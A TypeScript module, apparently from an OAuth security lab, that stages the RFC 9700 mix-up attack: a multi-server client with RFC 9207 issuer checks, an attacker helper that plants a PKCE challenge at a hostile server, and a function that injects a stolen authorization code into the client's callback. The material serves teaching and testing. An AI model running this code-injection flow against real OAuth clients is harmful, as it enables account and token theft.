// The stage of the mix-up attack (RFC 9700 §4.4), for the attack script and its test; never
// part of a version. A client that lets each user pick an authorization server ("Log in with
// Honest AS", "Log in with Hostile AS"), a version's AS as the honest one, and the attacker's
// AS (hostile-as.ts).
//
// The client is modelled on the lab's: per browser session, the AS the user chose, a state
// and a PKCE verifier, taken once by the callback; one redirect URI for every AS (what the
// attack needs, RFC 9700 §4.4.1); endpoints from each AS's metadata (RFC 8414). On the
// callback it checks `iss` exactly as v07's client/login.ts does (RFC 9207 §2.4): whenever the
// response has one, and always when the AS promised one. So against an AS that sends none and
// promises none (v06), there is nothing to check.

import { createHash, randomBytes } from 'node:crypto';
import type http from 'node:http';
import ejs from 'ejs';
import { urlFor } from '../../shared/config.ts';
import { closeServer, listen, portOf } from '../../shared/listen.ts';
import type { RunningLab } from '../../shared/lab.ts';
import { startHostileAs, type HostileAs } from './hostile-as.ts';
import { Browser } from './browser.ts';
import { locationParams } from './flow.ts';
import { startApp } from './lab.ts';
import { storedAccessToken } from './state.ts';
import { basic, DEMO } from './token.ts';

/** What an AS has on file for this client, and where it is. */
export interface Registration {
  /** The AS's issuer identifier: its base URL. */
  issuer: string;
  clientId: string;
  clientSecret: string;
}

/** A token request this client sent, and the answer. */
export interface SentTokenRequest {
  /** The name of the AS the client believed it was talking to. */
  as: string;
  url: string;
  form: Record<string, string>;
  status: number;
  body: Record<string, unknown>;
}

export interface MixupClient {
  url: string;
  /** The one redirect URI it uses with every AS. */
  redirectUri: string;
  /** Every AS it knows, by the name on its "Log in with …" link. */
  registrations: Map<string, Registration>;
  /** Where its "Log in with `as`" link goes. */
  loginUrl(as: string): string;
  /** Every code it redeemed, and where. */
  tokenRequests: SentTokenRequest[];
  close(): Promise<void>;
}

/** A login under way: what the callback must bring back, and where the code then goes. */
interface PendingLogin {
  as: string;
  issuer: string;
  /** RFC 9207 §3: the AS promised `iss` in its responses; then the client requires it. */
  issRequired: boolean;
  tokenEndpoint: string;
  state: string;
  verifier: string;
}

interface Session {
  pending?: PendingLogin;
  signedIn?: { as: string; tokens: Record<string, unknown> };
}

const SCOPE = 'profile notes:read';

/** Enough style for a room to read its pages (the attacker's site links to them). */
const STYLE =
  'body{margin:0;font:17px/1.5 system-ui,sans-serif;background:#f6f7f9;color:#1b1f24}' +
  'header{background:#5b3fa0;color:#fff;padding:.6rem 1.25rem;font-weight:600}' +
  'main{max-width:50rem;margin:0 auto;padding:1rem 1.25rem}' +
  'a{display:inline-block;margin:0 .5rem .5rem 0;padding:.45rem 1rem;background:#5b3fa0;' +
  'color:#fff;text-decoration:none;border-radius:3px}p{overflow-wrap:anywhere}';
const COOKIE = 'mixup-client.sid';
const MAX_SESSIONS = 1000;

export async function startMixupClient(): Promise<MixupClient> {
  const server = await listen('client', 0);
  const url = urlFor(portOf(server));
  const client: MixupClient = {
    url,
    redirectUri: `${url}/callback`,
    registrations: new Map(),
    loginUrl: (as) => `${url}/login?as=${encodeURIComponent(as)}`,
    tokenRequests: [],
    close: () => closeServer(server),
  };
  const sessions = new Map<string, Session>();

  const handle = async (req: http.IncomingMessage, res: http.ServerResponse) => {
    const path = new URL(req.url ?? '/', url);
    let sid = /(?:^|;\s*)mixup-client\.sid=([\w-]+)/.exec(req.headers.cookie ?? '')?.[1];
    if (!sid || !sessions.has(sid)) {
      sid = randomBytes(16).toString('base64url');
      sessions.set(sid, {});
      // The evil site keeps the stage up for a whole workshop: a flood of cookie-less requests
      // drops the oldest sessions instead of growing without end.
      if (sessions.size > MAX_SESSIONS) sessions.delete(sessions.keys().next().value!);
      res.setHeader('set-cookie', `${COOKIE}=${sid}; Path=/; HttpOnly; SameSite=Lax`);
    }
    const session = sessions.get(sid)!;
    const page = (status: number, title: string, text: string) => {
      res.writeHead(status, { 'content-type': 'text/html; charset=utf-8' });
      res.end(
        `<!doctype html><html lang="en"><meta charset="utf-8"><title>${ejs.escapeXML(title)}</title>` +
          `<style>${STYLE}</style><header>Mix-up stage · a client with two authorization ` +
          `servers · ${ejs.escapeXML(url)}</header><main><h1>${ejs.escapeXML(title)}</h1>${text}</main>`,
      );
    };

    if (path.pathname === '/') {
      const links = [...client.registrations.keys()]
        .map(
          (name) =>
            `<a href="/login?as=${encodeURIComponent(name)}">Log in with ${ejs.escapeXML(name)}</a>`,
        )
        .join(' ');
      const who = session.signedIn
        ? `<p>Signed in with ${ejs.escapeXML(session.signedIn.as)}.</p>`
        : '';
      return page(
        200,
        'Client with two authorization servers',
        '<p>Part of the mix-up stage, not of any version: a client that lets each user pick ' +
          'the authorization server they log in with. It uses one redirect URI for both.</p>' +
          `${who}<p>${links}</p>`,
      );
    }

    if (path.pathname === '/login') {
      const name = path.searchParams.get('as') ?? '';
      const registration = client.registrations.get(name);
      if (!registration) return page(400, 'Unknown authorization server', '');
      const as = await discover(registration.issuer);
      const authorize = new URL(as.authorizationEndpoint);
      const state = randomBytes(32).toString('base64url');
      const verifier = randomBytes(32).toString('base64url');
      const params = {
        response_type: 'code',
        client_id: registration.clientId,
        redirect_uri: client.redirectUri,
        scope: SCOPE,
        state,
        code_challenge: createHash('sha256').update(verifier).digest('base64url'),
        code_challenge_method: 'S256',
      };
      for (const [key, value] of Object.entries(params)) authorize.searchParams.set(key, value);
      // The user's choice is kept in their session: the callback trusts it (RFC 9700 §4.4.1).
      session.pending = {
        as: name,
        issuer: registration.issuer,
        issRequired: as.issParameterSupported,
        tokenEndpoint: as.tokenEndpoint,
        state,
        verifier,
      };
      res.writeHead(302, { location: authorize.href });
      return res.end();
    }

    if (path.pathname === '/callback') {
      const one = (key: string) => path.searchParams.get(key) ?? undefined;
      const pending = session.pending;
      delete session.pending;
      if (!pending || one('state') !== pending.state) {
        return page(
          400,
          'Callback refused',
          '<p>state_mismatch: not the login this browser started.</p>',
        );
      }
      // RFC 9207 §2.4, as in v07's client/login.ts: the AS that answered must be the one this
      // login went to, and an AS that promised `iss` must send it.
      const iss = one('iss');
      if (iss !== pending.issuer && (iss !== undefined || pending.issRequired)) {
        const description =
          iss === undefined
            ? `The response has no iss, though ${pending.issuer} promised one (RFC 9207 §2.4).`
            : `The response names the issuer ${iss}, but this login went to ${pending.issuer} (RFC 9207 §2.4).`;
        return page(
          400,
          'Callback refused',
          `<p>issuer_mismatch: ${ejs.escapeXML(description)}</p>`,
        );
      }
      const code = one('code');
      if (!code)
        return page(400, 'Login failed', `<p>${ejs.escapeXML(one('error') ?? 'no code')}</p>`);

      // The code goes to the token endpoint of the AS this session chose.
      const registration = client.registrations.get(pending.as)!;
      const form = {
        grant_type: 'authorization_code',
        code,
        redirect_uri: client.redirectUri,
        code_verifier: pending.verifier,
      };
      const answer = await fetch(pending.tokenEndpoint, {
        method: 'POST',
        headers: {
          'content-type': 'application/x-www-form-urlencoded',
          authorization: basic(registration.clientId, registration.clientSecret),
        },
        body: new URLSearchParams(form).toString(),
      });
      const body = (await answer.json().catch(() => ({}))) as Record<string, unknown>;
      client.tokenRequests.push({
        as: pending.as,
        url: pending.tokenEndpoint,
        form,
        status: answer.status,
        body,
      });
      if (!answer.ok) {
        return page(
          400,
          'Login failed',
          `<p>${ejs.escapeXML(String(body.error))}: ${ejs.escapeXML(String(body.error_description))}</p>`,
        );
      }
      session.signedIn = { as: pending.as, tokens: body };
      return page(200, `Signed in with ${pending.as}`, '<p>The client holds tokens.</p>');
    }
    page(404, 'Not found', '');
  };
  server.on('request', (req, res) => {
    handle(req, res).catch((err: unknown) => {
      if (!res.headersSent) res.writeHead(500, { 'content-type': 'text/plain' });
      res.end(String(err));
    });
  });
  return client;
}

/** Where an AS's endpoints are: its metadata (RFC 8414 §3), or, before v06, its usual paths. */
async function discover(issuer: string) {
  const answer = await fetch(`${issuer}/.well-known/oauth-authorization-server`);
  if (answer.status === 404) {
    return {
      authorizationEndpoint: `${issuer}/authorize`,
      tokenEndpoint: `${issuer}/token`,
      issParameterSupported: false,
    };
  }
  const metadata = (await answer.json()) as Record<string, unknown>;
  // RFC 8414 §3.3: the metadata must describe the AS the client asked about.
  if (metadata.issuer !== issuer) throw new Error(`${issuer}'s metadata names another issuer`);
  return {
    authorizationEndpoint: String(metadata.authorization_endpoint),
    tokenEndpoint: String(metadata.token_endpoint),
    issParameterSupported: metadata.authorization_response_iss_parameter_supported === true,
  };
}

/** The whole stage: the client, the honest AS (`version`'s), and the hostile AS. */
export interface MixUp {
  client: MixupClient;
  /** The honest AS, as a lab of one app, for asState() and the like. */
  honest: RunningLab<'as'>;
  hostile: HostileAs;
  close(): Promise<void>;
}

/** The names of the two ASes on the client's "Log in with …" links. */
export const HONEST = 'Honest AS';
export const HOSTILE = 'Hostile AS';

export async function startMixUp(version: string): Promise<MixUp> {
  const client = await startMixupClient();
  // `version`'s AS, with the client registered as demo-client at its one redirect URI. lab: the
  // tokens it issues name an API no one runs, since this demo calls none.
  const honestApp = await startApp(version, 'auth-server', 'createAuthServer', {
    clientUrl: client.url,
    rsUrl: 'http://notes-api.invalid',
  });
  const honest: RunningLab<'as'> = { urls: { as: honestApp.url }, close: honestApp.close };
  const hostile = await startHostileAs({
    authorizationEndpoint: `${honestApp.url}/authorize`,
    clientId: DEMO.id,
  });
  client.registrations.set(HONEST, {
    issuer: honestApp.url,
    clientId: DEMO.id,
    clientSecret: DEMO.secret,
  });
  client.registrations.set(HOSTILE, { issuer: hostile.url, ...hostile.registration });
  return {
    client,
    honest,
    hostile,
    close: async () => {
      await Promise.all([client.close(), honestApp.close(), hostile.close()]);
    },
  };
}

/**
 * The attacker starts a login of their own at the stage's client, with the honest AS, and
 * stops at its login page; the PKCE challenge the client sent is planted at the hostile AS, so
 * that the code a victim gets through it is bound to this login's verifier (RFC 9700 §4.4.1).
 */
export async function attackersOwnLogin({ client, hostile }: MixUp) {
  const attacker = new Browser();
  const params = locationParams(await attacker.get(client.loginUrl(HONEST)));
  hostile.plantedChallenge = params.get('code_challenge')!;
  return { attacker, state: params.get('state')!, challenge: hostile.plantedChallenge };
}

/**
 * The attacker opens the callback of their own login with a stolen code (RFC 9700 §4.5), and
 * `iss` naming the honest AS, which is public: the callback page, the token request the client
 * then sent to the honest AS (if any), and whose tokens it got.
 */
export async function injectStolenCode(
  { client, honest }: MixUp,
  { attacker, state }: { attacker: Browser; state: string },
  code: string,
) {
  const injected = new URL(client.redirectUri);
  injected.searchParams.set('code', code);
  injected.searchParams.set('state', state);
  injected.searchParams.set('iss', honest.urls.as);
  const before = client.tokenRequests.length;
  const page = await attacker.get(injected.href);
  const redeemed = client.tokenRequests.slice(before).find(({ as }) => as === HONEST);
  const token = redeemed?.body.access_token;
  const owner = typeof token === 'string' ? await storedAccessToken(honest, token) : undefined;
  return { page, redeemed, owner };
}
